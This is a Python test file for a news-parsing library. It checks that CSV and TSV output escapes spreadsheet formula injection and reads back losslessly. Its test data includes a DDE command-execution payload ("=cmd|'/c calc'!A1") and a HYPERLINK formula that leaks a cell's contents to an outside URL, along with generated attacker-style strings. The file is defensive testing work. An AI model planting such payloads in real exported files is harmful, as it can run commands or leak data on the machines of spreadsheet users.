"""CSV and TSV: no text of an input is a formula of a spreadsheet, and what newsparse wrote it reads back to the letter."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from inputs import piped
from test_batch import cut_off, do, dump
from test_cli import invoke
from test_writers import NASTY, an_article, written

from newsparse import Document
from newsparse.article import KEYS
from newsparse.batch.journal import OtherJobError
from newsparse.formulas import guarded, unguarded
from newsparse.readers import Reading
from newsparse.writers.columns import Look
from newsparse.writers.delimited import fit

SIGNS = "=+-@＝＋－＠|%"
# (text, whether a spreadsheet might compute it)
TEXTS = [
    ("=cmd|'/c calc'!A1", True),
    ("+1 555 0100", True),
    ("-2+3", True),
    ("@SUM(1+1)", True),
    ("\t=1", True),
    ("\tindented", True),
    ("\r=1", True),
    ("\n\n=1", True),
    ("\0=1", True),
    ("＝1+1", True),
    ("－1", True),
    ("  =1", True),
    ("\u00a0=1", True),
    ("\u3000@x", True),
    ("\ufeff=1", True),
    ("\u202e=1", True),
    ("\u200b\u200b=1", True),
    ('"=1', True),
    ('" "=1', True),
    ("'=1", True),
    ("''=1", True),
    ("'\t", True),
    ('=HYPERLINK("http://example.org/?"&A1,"x")', True),
    ("Ann; =1", False),
    ("A headline - with a dash", False),
    ("1-2", False),
    ("'Quoted', he said", False),
    ('"Quoted", she said', False),
    ("— a dash that is none of a spreadsheet", False),
    ("#REF!", False),
    ("", False),
    (" ", False),
    ("'", False),
]
# What comes to mind of an attacker: signs, what may stand before them, what ends a cell or a row.
HOSTILE = st.text(st.sampled_from([*SIGNS, *"\t\r\n\0 '\"\\;,a\u00a0\u200b\ufeff\u202e\ufffd\ud800"]), max_size=12)


def computes(text: str) -> bool:
    """Whether a spreadsheet could take a cell for a formula: told by hand, with another rule than the one that is tested.

    With `'` in front it is text.
    """
    for character in text:
        if character in SIGNS:
            return True
        if character in "\t\r\n\0" and text[0] == character:
            return True
        is_invisible = unicodedata.category(character) in ("Cf", "Cc")
        if not (character.isspace() or is_invisible or character in '"\ufffd'):
            return False
    return False


@pytest.mark.parametrize(("text", "is_formula"), TEXTS, ids=repr)
def test_what_is_guarded(text: str, is_formula: bool) -> None:
    assert guarded(text) == ("'" + text if is_formula else text)
    assert unguarded(guarded(text)) == text


@given(HOSTILE | st.text(max_size=8))
def test_the_guard_has_a_way_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


def rows(name: str, text: str) -> list[list[str]]:
    """The cells of a table, read as its format says."""
    if name == "csv":
        return list(csv.reader(io.StringIO(text, newline=""), strict=True))
    return [line.split("\t") for line in text.removesuffix("\n").split("\n")]


TEXT_KEYS = "source,id,headline,byline,authors,credits,notes,fields,dateline,trailer,body"


@pytest.mark.parametrize("name", ["csv", "tsv"])
@given(HOSTILE)
@example(NASTY)
@example("=1;=2\t=3")
@settings(max_examples=150)
def test_no_cell_begins_a_formula(name: str, text: str) -> None:
    article = an_article(
        source=text, id=text, headline=text, byline=text, authors=(text, text), credits=(text,), notes=(text,),
        fields={text: text}, trailer=text, body=text,
    )  # fmt: skip
    _, row = rows(name, written(name, [article], fields=TEXT_KEYS))
    assert not [one for one in row if computes(one)]
    exact = rows(name, written(name, [article], Look(csv_safe=False), fields=TEXT_KEYS))[1]
    if name == "csv":
        assert exact[0] == fit(text)
        assert exact[4] == fit(f"{text}; {text}")
        assert [unguarded(one) for one in row] == exact


def test_numbers_are_ours_and_stay_numbers() -> None:
    assert written("csv", [an_article(confidence=-0.5)], fields="record,confidence") == "record,confidence\n1,-0.5\n"


def test_a_cell_holds_together_whatever_cuts_it_elsewhere() -> None:
    """LibreOffice cuts at commas, semicolons and tabs at once, where no quotes keep it from that."""
    for delimiter in ",;\t|":
        article = an_article(headline=f"Harmless{delimiter}=1+1", authors=())
        line = written("csv", [article], fields="headline,record").split("\n")[1]
        assert line == f'"Harmless{delimiter}=1+1",1'


def test_a_row_of_nothing_is_no_blank_line() -> None:
    assert written("csv", [an_article(id=None)] * 2, fields="id") == 'id\n""\n""\n'


# ------------------------------------------------------------------------------------------------ read back
@given(HOSTILE.filter(lambda text: any(map(str.isalnum, text))))
def test_what_was_written_is_read_back_to_the_letter(text: str) -> None:
    article = an_article(id=text, headline=text, body=text)
    table = written("csv", [article], fields="id,headline,body").encode()
    (found,) = piped(table, reading=Reading(format="csv", text_field="body"))
    assert isinstance(found, Document)
    # Of any text a byte order mark at its beginning is none of it.
    assert found.text == fit(text).lstrip("\ufeff")
    assert (found.id or "").lstrip("\ufeff") == fit(text).strip().lstrip("\ufeff")


def test_of_another_tables_cells_nothing_is_taken_away() -> None:
    table = "id,text,score\n'=1,'=1 is a formula,5\n"
    (found,) = piped(table.encode(), reading=Reading(format="csv"))
    assert isinstance(found, Document)
    assert (found.id, found.text) == ("'=1", "'=1 is a formula")
    assert "text" not in KEYS


# ------------------------------------------------------------------------------------------------ the command line
@pytest.mark.parametrize("command", ["parse", "inspect", "batch"])
def test_the_option_is_told_and_obeyed(command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert "--csv-safe / --no-csv-safe" in invoke(command, "--help").stdout
    Path("=1.txt").write_text("@Home they wait\n\n-5 degrees on the island, and the ferries stay in the harbour.\n")
    for option, guard in ((None, "'"), ("--csv-safe", "'"), ("--no-csv-safe", "")):
        for name in ("csv", "tsv"):
            said = [option] if option else []
            invoke(command, "=1.txt", "-o", f"out.{name}", "--fields", "source,headline,body", *said)
            _, row = rows(name, Path(f"out.{name}").read_text("utf-8"))
            assert [one[: len(guard) + 2] for one in row] == [f"{guard}=1", f"{guard}@H", f"{guard}-5"]
    invoke(command, "=1.txt", "-o", "out.jsonl")
    assert json.loads(Path("out.jsonl").read_text("utf-8"))["headline"].startswith("@Home")


def test_a_job_goes_on_only_with_the_same_choice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("newsparse.batch.tasks._MOST", 5)
    dump("a.jsonl", range(20))
    cut_off(monkeypatch, "a.jsonl", format="csv")
    with pytest.raises(OtherJobError) as refused:
        do("a.jsonl", resume=True, format="csv", csv_safe=False)
    assert refused.value.names == ["csv_safe"]
